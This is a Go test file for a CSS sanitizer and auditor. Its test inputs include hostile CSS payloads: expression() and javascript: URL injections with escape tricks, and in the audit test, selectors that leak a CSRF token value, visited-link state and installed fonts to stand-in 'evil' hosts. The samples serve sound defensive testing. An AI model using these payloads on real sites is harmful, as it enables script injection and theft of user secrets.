@@ -0,0 +1,505 @@
+// Copyright 2026 The Gorilla Authors. All rights reserved.
+// Use of this source code is governed by a BSD-style
+// license that can be found in the LICENSE file.
+
+package sanitize
+
+import (
+	"errors"
+	"fmt"
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/gorilla/css"
+	"github.com/gorilla/css/diag"
+	"github.com/gorilla/css/selector"
+)
+
+func TestString(t *testing.T) {
+	tcs := []struct {
+		input    string
+		expected string
+		removed  []Removal
+	}{
+		{"a { color: red; behavior: url(x.htc) }", "a{color:red}", []Removal{{Property, "behavior", 1, 17}}},
+		{"a { COLOR: red; \\62 ehavior: x }", "a{COLOR:red}", []Removal{{Property, "behavior", 1, 17}}},
+		{"a { --x: 1; width: expression(alert(1)) }", "a{}", []Removal{{Property, "--x", 1, 5}, {Function, "expression", 1, 20}}},
+		{"a { width: calc(1px + env(x)) }", "a{}", []Removal{{Function, "env", 1, 23}}},
+		{"a { background: url(a.png) }", "a{background:url(a.png)}", nil},
+		{"a { background: url('https://a/b.png') }", "a{background:url('https://a/b.png')}", nil},
+		{"a { background: url(javascript:x) }", "a{}", []Removal{{URL, "javascript:x", 1, 17}}},
+		{"a { background: url('java\\9 script:x') }", "a{}", []Removal{{URL, "java\tscript:x", 1, 17}}},
+		{"a { background: url(//evil/a.png) }", "a{}", []Removal{{URL, "//evil/a.png", 1, 17}}},
+		{"a { background: url(\"a\" b) }", "a{}", []Removal{{URL, "url(\"a\" b)", 1, 17}}},
+		{"a { background: url(\"http://a\" ) }", "a{}", []Removal{{URL, "http://a", 1, 17}}},
+		{"@media print { a { color: red } } @font-face { src: url(a.woff) }", "@media print{a{color:red}}", []Removal{{AtRule, "font-face", 1, 35}}},
+		{"@supports (display: grid) { /* c */ a { display: grid } }", "@supports (display: grid){a{display:grid}}", nil},
+		{"@media (min-width: calc(1px + attr(x))) { a { color: red } }", "", []Removal{{Function, "attr", 1, 31}}},
+	}
+	for _, tc := range tcs {
+		got, removed, err := UserContent().String(tc.input)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got != tc.expected || !reflect.DeepEqual(removed, tc.removed) {
+			t.Errorf("%s:\ngot  %q %v\nwant %q %v", tc.input, got, removed, tc.expected, tc.removed)
+		}
+	}
+}
+
+func TestInline(t *testing.T) {
+	tcs := []struct {
+		input    string
+		expected string
+		removed  []Removal
+	}{
+		{"color: red; behavior: url(x.htc)", "color:red", []Removal{{Property, "behavior", 1, 13}}},
+		{"color: red} body { display: none", "color:red", []Removal{{Selector, "body", 1, 13}}},
+		{"color: red; b { color: blue }\n@media print {}", "color:red", []Removal{{Selector, "b", 1, 13}, {AtRule, "media", 2, 1}}},
+		{`font-family: "a\"b"`, "font-family:'a\\22 b'", nil},
+		{"color: &#39 'x; position:fixed; top:0; left:0 '", "", []Removal{{Character, "color", 1, 1}}},
+		{"margin: 0 &#34; color: red", "color:red", []Removal{{Character, "margin", 1, 1}}},
+		{"color: red; COLOR: blue &quot", "color:red", []Removal{{Character, "color", 1, 13}}},
+		{`font-family: "&#39&#34&quot"`, `font-family:'\26 #39\26 #34\26 quot'`, nil},
+	}
+	for _, tc := range tcs {
+		got, removed, err := UserContent().Inline(tc.input)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if got != tc.expected || !reflect.DeepEqual(removed, tc.removed) {
+			t.Errorf("%s:\ngot  %q %v\nwant %q %v", tc.input, got, removed, tc.expected, tc.removed)
+		}
+	}
+	_, _, err := UserContent().Inline("content: 'a")
+	if e, ok := err.(*css.ParseError); !ok || e.Column != 10 {
+		t.Errorf("got error %v, want an error at column 10", err)
+	}
+}
+
+func TestLimits(t *testing.T) {
+	// Deep nesting is rejected by default, without parsing all of it.
+	deep := "a { b: " + strings.Repeat("(", 1e6) + " }"
+	start := time.Now()
+	if _, _, err := UserContent().String(deep); !errors.Is(err, css.ErrLimitExceeded) {
+		t.Errorf("String: got %v, want an exceeded limit", err)
+	}
+	_, _, err := UserContent().Inline("color: red; b: " + strings.Repeat("[", 1e6))
+	if e, ok := err.(*css.LimitExceededError); !ok || e.Limit != "MaxDepth" || e.Column != 79 {
+		t.Errorf("Inline: got %v, want MaxDepth exceeded at column 79", err)
+	}
+	if d := time.Since(start); d > time.Second {
+		t.Errorf("took %v", d)
+	}
+
+	p := UserContent()
+	p.Limits = css.Limits{MaxRules: 1}
+	if _, _, err := p.String("a {} b {}"); !errors.Is(err, css.ErrLimitExceeded) {
+		t.Errorf("got %v, want an exceeded limit", err)
+	}
+	p.Limits = css.Limits{MaxDepth: -1}
+	if _, _, err := p.String("a { b: " + strings.Repeat("(", 100) + " }"); err != nil {
+		t.Errorf("got %v with no MaxDepth", err)
+	}
+}
+
+func TestSelector(t *testing.T) {
+	p := UserContent()
+	// Only allow selectors scoped to the .user class.
+	p.Selector = func(selector []*css.ComponentValue) bool {
+		return len(selector) > 1 && selector[0].Token.Value == "." && selector[1].Token.Value == "user"
+	}
+	got, removed, err := p.String(".user p { color: red } body { color: red }")
+	want := []Removal{{Selector, "body", 1, 24}}
+	if got != ".user p{color:red}" || !reflect.DeepEqual(removed, want) || err != nil {
+		t.Errorf("got %q %v %v", got, removed, err)
+	}
+}
+
+func TestImage(t *testing.T) {
+	p := UserContent()
+	p.Functions = append(p.Functions, "image-set")
+	p.AtRules = append(p.AtRules, "import")
+	tcs := []struct {
+		input    string
+		expected string
+	}{
+		{"a { background: image-set('a.png' 1x, url(b.png) 2x) }", "a{background:image-set('a.png' 1x, url(b.png) 2x)}"},
+		{"a { background: image-set('data:x' 1x) }", "a{}"},
+		{"@import 'a.css'; @import 'http://a/a.css';", "@import 'a.css';"},
+	}
+	for _, tc := range tcs {
+		got, _, err := p.String(tc.input)
+		if err != nil || got != tc.expected {
+			t.Errorf("%s: got %q %v, want %q", tc.input, got, err, tc.expected)
+		}
+	}
+}
+
+func TestDataURL(t *testing.T) {
+	p := UserContent()
+	tcs := []struct {
+		input    string
+		expected string
+		removed  []Removal
+	}{
+		{"background: url(data:image/png;base64,iVBORw0KGgo=)", "", []Removal{{URL, "data:image/png;base64,...", 1, 13}}},
+	}
+	for _, tc := range tcs {
+		got, removed, err := p.Inline(tc.input)
+		if err != nil || got != tc.expected || !reflect.DeepEqual(removed, tc.removed) {
+			t.Errorf("%s:\ngot  %q %v %v\nwant %q %v", tc.input, got, removed, err, tc.expected, tc.removed)
+		}
+	}
+	p.URLSchemes = append(p.URLSchemes, "data")
+	p.DataMediaTypes = []string{"image/png", "image/svg*", "font/*"}
+	p.MaxDataSize = 8
+	tcs = []struct {
+		input    string
+		expected string
+		removed  []Removal
+	}{
+		{"background: url(data:image/png;base64,iVBORw0KGgo=)", "background:url('data:image/png;base64,iVBORw0KGgo=')", nil},
+		{"background: url('DATA:Image/PNG,%89PNG')", "background:url('DATA:Image/PNG,%89PNG')", nil},
+		{"background: url(data:image/png;base64,iVBORw0KGgoA)", "", []Removal{{URL, "data:image/png;base64,...", 1, 13}}},
+		{"background: url(data:image/svg+xml,<svg>)", "", []Removal{{URL, "data:image/svg+xml,...", 1, 13}}},
+		{"background: url(data:font/woff2;base64,AAAA)", "background:url('data:font/woff2;base64,AAAA')", nil},
+		{"background: url(data:text/html,x)", "", []Removal{{URL, "data:text/html,...", 1, 13}}},
+		{"background: url(data:image/png)", "", []Removal{{URL, "data:image/png", 1, 13}}},
+	}
+	for _, tc := range tcs {
+		got, removed, err := p.Inline(tc.input)
+		if err != nil || got != tc.expected || !reflect.DeepEqual(removed, tc.removed) {
+			t.Errorf("%s:\ngot  %q %v %v\nwant %q %v", tc.input, got, removed, err, tc.expected, tc.removed)
+		}
+	}
+}
+
+func TestZeroPolicy(t *testing.T) {
+	var p Policy
+	got, removed, err := p.String("a { color: red } @media print {}")
+	if got != "a{}" || len(removed) != 2 || err != nil {
+		t.Errorf("got %q %v %v", got, removed, err)
+	}
+}
+
+func TestURLScheme(t *testing.T) {
+	tcs := []struct{ input, expected string }{
+		{"https://a", "https"},
+		{"JavaScript:x", "JavaScript"},
+		{"a.png", ""},
+		{"a/b:c", ""},
+		{":x", ""},
+		{"1a:x", ""},
+		{"a+b.c-d:x", "a+b.c-d"},
+	}
+	for _, tc := range tcs {
+		if got := urlScheme(tc.input); got != tc.expected {
+			t.Errorf("%q: got %q, want %q", tc.input, got, tc.expected)
+		}
+	}
+	c := UserContent().newChecker()
+	for _, u := range []string{" \x01https://a", "\\\\evil/a", "java\nscript:x", "\tjavascript:x"} {
+		if got, want := c.allowURL(u), u[0] == ' '; got != want {
+			t.Errorf("%q: got %v, want %v", u, got, want)
+		}
+	}
+}
+
+func TestHarden(t *testing.T) {
+	tcs := []struct {
+		input    string
+		expected string
+		removed  []Removal
+	}{
+		{"a { color: red; behavior: url(x.htc); -MOZ-\\62inding: url(x.xml#b) }", "a{color:red}", []Removal{{Property, "behavior", 1, 17}, {Property, "-moz-binding", 1, 39}}},
+		{"a { width: expression(alert(1)); height: calc(1px + EXPR\\45SSION(x)) }", "a{}", []Removal{{Function, "expression", 1, 12}, {Function, "expression", 1, 53}}},
+		{"a { background: url(' javascript:alert(1)'); cursor: url(\"vb\\9 script:x\") }", "a{}", []Removal{{URL, " javascript:alert(1)", 1, 17}, {URL, "vb\tscript:x", 1, 54}}},
+		{"a { background: image-set('javascript:x' 1x); content: 'javascript: no' }", "a{content:'javascript: no'}", []Removal{{URL, "javascript:x", 1, 27}}},
+		{"@import url(a.css); @import 'https://a/b.css'; @import url(http://a/c.css); @import url('data:text/css,a{}');", "@import url(a.css);@import 'https://a/b.css';", []Removal{{URL, "http://a/c.css", 1, 56}, {URL, "data:text/css,a{}", 1, 85}}},
+		{"@import '//a/b.css'; @media (x: expression(1)) { a { color: red } } @font-face { src: url(a.woff) }", "@font-face{src:url(a.woff)}", []Removal{{URL, "//a/b.css", 1, 9}, {Function, "expression", 1, 33}}},
+	}
+	for _, tc := range tcs {
+		s, err := css.ParseStylesheet(tc.input)
+		if err != nil {
+			t.Fatal(err)
+		}
+		removed := Harden(s, []string{"https"})
+		if got := s.String(); got != tc.expected || !reflect.DeepEqual(removed, tc.removed) {
+			t.Errorf("%s:\ngot  %q %v\nwant %q %v", tc.input, got, removed, tc.expected, tc.removed)
+		}
+	}
+}
+
+func TestSafeCSSValue(t *testing.T) {
+	tcs := []struct {
+		property, value string
+		safe            bool
+	}{
+		{"color", "red", true},
+		{"margin", "calc(1px + 2%) 0 var(--x, 1em)", true},
+		{"font-family", `"Helvetica Neue", sans-serif`, true},
+		{"display", "FLEX", true},
+		{"display", "inherit", true},
+		{"display", "flex; position: fixed", false},
+		{"display", "flexx", false},
+		{"color", "red; background: url(x)", false},
+		{"color", "red}body{color:red", false},
+		{"color", "red !important", false},
+		{"color", "red /* */", false},
+		{"color", "red)", false},
+		{"color", "rgb(0 0 0))", false},
+		{"color", "'unclosed", false},
+		{"color", "'</style>'", false},
+		{"color", "a<b", false},
+		{"color", "<!--", false},
+		{"color", "@x", false},
+		{"background", "url(x.png)", false},
+		{"background", "URL('x.png')", false},
+		{"background", "image-set('x.png' 1x)", false},
+		{"width", "expression(alert(1))", false},
+		{"behavior", "x", false},
+		{"-moz-b\\69nding", "x", false},
+		{"color:red;x", "y", false},
+		{"--x", "1px", true},
+		{"--x:y", "1px", false},
+	}
+	for _, tc := range tcs {
+		err := SafeCSSValue(tc.property, tc.value)
+		if _, ok := err.(*ValueError); ok == tc.safe || (err == nil) != tc.safe {
+			t.Errorf("%s: %s: got %v, want safe %v", tc.property, tc.value, err, tc.safe)
+		}
+	}
+}
+
+func TestEscapeCSSString(t *testing.T) {
+	tcs := []struct{ input, expected string }{
+		{"a b", "a b"},
+		{`"</style>'`, `\22\3c/style\3e\27`},
+		{"a\\b&c", `a\5c b\26 c`},
+		{"\n1 2\x00", `\a 1 2\0`},
+		{"é", "é"},
+	}
+	for _, tc := range tcs {
+		got := EscapeCSSString(tc.input)
+		if got != tc.expected {
+			t.Errorf("%q: got %q, want %q", tc.input, got, tc.expected)
+		}
+		// The escaped string decodes to the input.
+		s, err := css.ParseComponentValues("'" + got + "'")
+		if err != nil || s[0].Token.DecodedValue() != strings.ReplaceAll(tc.input, "\x00", "�") {
+			t.Errorf("%q: %q doesn't decode to the input: %v", tc.input, got, err)
+		}
+	}
+}
+
+func TestPresets(t *testing.T) {
+	long := "font-family: " + strings.Repeat("a", 300)
+	tcs := []struct {
+		policy   *Policy
+		input    string
+		expected string
+		removed  []Kind
+	}{
+		{UserContent(), "color: red; position: absolute; " + long, "color:red", []Kind{Property, LongValue}},
+		{UserContent(), "font-family: a; background: url(https://a/b.png)", "font-family:a;background:url('https://a/b.png')", nil},
+		{UserContent(), "background: url(data:image/png,x); width: calc(1px + 1%)", "width:calc(1px + 1%)", []Kind{URL}},
+		{Email(), "color: rgb(0 0 0); width: calc(1px + 1%); float: left", "color:rgb(0 0 0)", []Kind{Function, Property}},
+		{Email(), "background: url(https://a/b.png); background-image: url(b.png)", "background:url('https://a/b.png')", []Kind{URL}},
+		{StrictLayout(), "color: red; text-decoration: underline; font-size: 100px; margin: 0", "color:red;text-decoration:underline", []Kind{Property, Property}},
+		{StrictLayout(), "--x: 1; background-color: hsl(0 0% 0%); background: url(a.png)", "background-color:hsl(0 0% 0%)", []Kind{Property, Property}},
+	}
+	for _, tc := range tcs {
+		got, removed, err := tc.policy.Inline(tc.input)
+		var kinds []Kind
+		for _, r := range removed {
+			kinds = append(kinds, r.Kind)
+		}
+		if err != nil || got != tc.expected || !reflect.DeepEqual(kinds, tc.removed) {
+			t.Errorf("%s:\ngot  %q %v %v\nwant %q %v", tc.input, got, removed, err, tc.expected, tc.removed)
+		}
+	}
+	for _, p := range []*Policy{UserContent(), Email(), StrictLayout()} {
+		if _, _, err := p.String("@import url(a.css); @font-face { src: url(a.woff) }"); err != nil {
+			t.Fatal(err)
+		}
+		if got, _, _ := p.String("@import url(a.css); @font-face { src: url(a.woff) }"); got != "" {
+			t.Errorf("got %q, want no imports and fonts", got)
+		}
+	}
+	// Presets can be modified without changing the others.
+	p := Email()
+	p.Functions[0] = "x"
+	if Email().Functions[0] == "x" {
+		t.Error("presets share their lists")
+	}
+}
+
+func TestSelectorPolicy(t *testing.T) {
+	tcs := []struct {
+		policy   Policy
+		input    string
+		expected string
+		removed  []string
+	}{
+		{
+			Policy{MaxSpecificity: selector.Specificity{0, 2, 0}},
+			"a.b.c { } .a .b { } #a { } :where(#a) { }",
+			".a .b{}:where(#a){}",
+			[]string{"a.b.c", "#a"},
+		},
+		{
+			Policy{MaxCompounds: 2},
+			"a > b { } a b c { } a:not(b c) { } a, b c { }",
+			"a > b{}a, b c{}",
+			[]string{"a b c", "a:not(b c)"},
+		},
+		{
+			Policy{DeniedPseudoClasses: []string{"visited", "first-line"}},
+			"a:VISITED { } a:is(:visited) { } a:first-line { } a:hover { } a, { }",
+			"a:hover{}",
+			[]string{"a:VISITED", "a:is(:visited)", "a:first-line", "a,"},
+		},
+		{
+			Policy{DeniedAttributes: []string{"value"}},
+			`input[VALUE^=a] { } [type=text] { }`,
+			`[type=text]{}`,
+			[]string{"input[VALUE^=a]"},
+		},
+		{
+			Policy{DeniedAttributes: []string{"*"}},
+			`a[href] { } a:not([b]) { } a { }`,
+			`a{}`,
+			[]string{"a[href]", "a:not([b])"},
+		},
+		{
+			Policy{Scope: ".user", AtRules: []string{"media"}},
+			"a, .user > b, .user + c, .users d { } @media print { .user e, f { } } g { & h { } > i { } }",
+			".user a, .user > b, .user .user + c, .user .users d{}@media print{.user e, .user f{}}.user g{& h{}> i{}}",
+			nil,
+		},
+		{
+			Policy{Scope: "a{"},
+			"a { } @media print { }",
+			"",
+			[]string{"a", "media"},
+		},
+	}
+	for _, tc := range tcs {
+		got, removed, err := tc.policy.String(tc.input)
+		var names []string
+		for _, r := range removed {
+			names = append(names, r.Name)
+		}
+		if err != nil || got != tc.expected || !reflect.DeepEqual(names, tc.removed) {
+			t.Errorf("%s:\ngot  %q %v %v\nwant %q %v", tc.input, got, names, err, tc.expected, tc.removed)
+		}
+	}
+}
+
+func TestImports(t *testing.T) {
+	files := map[string]string{
+		"a.css":           `@import "css/b.css" print; a { color: red; position: fixed }`,
+		"css/b.css":       `@import url(c.css) layer(x) supports(display: grid); b { background: url(img/b.png) }`,
+		"css/c.css":       `c { background: url("../c.png"), url(#f), url(https://x/c.png) }`,
+		"loop.css":        `@import "loop.css"; d { color: red }`,
+		"big.css":         strings.Repeat(" ", 150),
+		"bad.css":         `e { content: "x`,
+		"https://y/a.css": `f { background: url(/f.png) }`,
+	}
+	loader := func(u string) (string, error) {
+		if s, ok := files[u]; ok {
+			return s, nil
+		}
+		return "", errors.New("not found")
+	}
+	p := UserContent()
+	p.AtRules = append(p.AtRules, "layer")
+	p.Loader = loader
+	p.MaxImportSize = 300
+	tcs := []struct {
+		mode     ImportMode
+		input    string
+		expected string
+		removed  []Removal
+	}{
+		{KeepImports, `@import "a.css"; g { }`, "g{}", []Removal{{AtRule, "import", 1, 1}}},
+		{StripImports, `@import "a.css"; g { }`, "g{}", []Removal{{AtRule, "import", 1, 1}}},
+		{
+			ResolveImports, "@import 'a.css';\ng { }",
+			"@media print{@supports (display: grid){@layer x{c{background:url('c.png'), url(#f), url(https://x/c.png)}}}b{background:url('css/img/b.png')}}a{color:red}g{}",
+			[]Removal{{Property, "position", 1, 1}},
+		},
+		{
+			ResolveImports, `@import "loop.css"; @import url(missing.css); @import "bad.css"; @import "big.css"; @import "big.css"`,
+			"d{color:red}",
+			[]Removal{{Import, "loop.css", 1, 1}, {Import, "missing.css", 1, 21}, {Import, "bad.css", 1, 47}, {Import, "big.css", 1, 85}},
+		},
+		{
+			ResolveImports, `@import "https://y/a.css"; @import "javascript:x"; @import "a.css" screen and (min-width: attr(x))`,
+			"f{background:url('https://y/f.png')}",
+			[]Removal{{URL, "javascript:x", 1, 36}, {Function, "attr", 1, 91}},
+		},
+	}
+	for _, tc := range tcs {
+		p.Imports = tc.mode
+		got, removed, err := p.String(tc.input)
+		if err != nil || got != tc.expected || !reflect.DeepEqual(removed, tc.removed) {
+			t.Errorf("%s:\ngot  %q %v %v\nwant %q %v", tc.input, got, removed, err, tc.expected, tc.removed)
+		}
+	}
+	p.Imports, p.MaxImportDepth = ResolveImports, 1
+	if got, _, _ := p.String(`@import "a.css"`); got != "a{color:red}" {
+		t.Errorf("depth 1: got %q", got)
+	}
+}
+
+func TestAudit(t *testing.T) {
+	s, err := css.ParseStylesheet(`input[name=csrf][value^=a] { background: url(https://evil/a) }
+input[value] { background: url(https://evil/x) }
+input[value$=b] { color: red; background: url(data:image/png,x) }
+@media all { a:visited { color: red } }
+form { a:is(:visited) { background: url(//evil/v) } }
+@font-face { font-family: x; src: local(Arial), url(https://evil/arial) }
+@font-face { font-family: y; src: url(y.woff2), local(y) }
+@font-face { font-family: z; src: url(https://evil/A); unicode-range: U+41 }
+@font-face { font-family: z; src: url(https://evil/B); unicode-range: U+42-42 }
+@font-face { font-family: z; src: url(z.woff2); unicode-range: U+0-FF, U+131 }`)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var got []string
+	for _, f := range Audit(s) {
+		got = append(got, fmt.Sprintf("%s %v", f, f.URLs))
+	}
+	want := []string{
+		`attribute leak: "input[name=csrf][value^=a]" (line: 1, column: 1) [https://evil/a]`,
+		`visited styling: "a:visited" (line: 4, column: 14) []`,
+		`visited styling: "a:is(:visited)" (line: 5, column: 8) [//evil/v]`,
+		`local font probe: "local(Arial), url(https://evil/arial)" (line: 6, column: 1) [https://evil/arial]`,
+		`unicode-range probe: "U+41" (line: 8, column: 1) [https://evil/A]`,
+		`unicode-range probe: "U+42-42" (line: 9, column: 1) [https://evil/B]`,
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("got  %q\nwant %q", got, want)
+	}
+}
+
+func TestDiagnostic(t *testing.T) {
+	tcs := []struct {
+		d        interface{ Diagnostic() diag.Diagnostic }
+		expected string
+	}{
+		{Removal{Property, "behavior", 1, 13}, `warning: removed property "behavior" [removed-property] (line: 1, column: 13)`},
+		{Removal{LongValue, "content", 2, 5}, `warning: removed long value "content" [removed-long-value] (line: 2, column: 5)`},
+		{Finding{LocalFontProbe, "local(a), url(b)", []string{"b"}, 3, 1}, `warning: local font probe: local(a), url(b) fetches b [local-font-probe] (line: 3, column: 1)`},
+		{Finding{VisitedStyling, "a:visited", nil, 4, 1}, `warning: visited styling: a:visited [visited-styling] (line: 4, column: 1)`},
+	}
+	for _, tc := range tcs {
+		if got := tc.d.Diagnostic().String(); got != tc.expected {
+			t.Errorf("%v: got %q, want %q", tc.d, got, tc.expected)
+		}
+	}
+}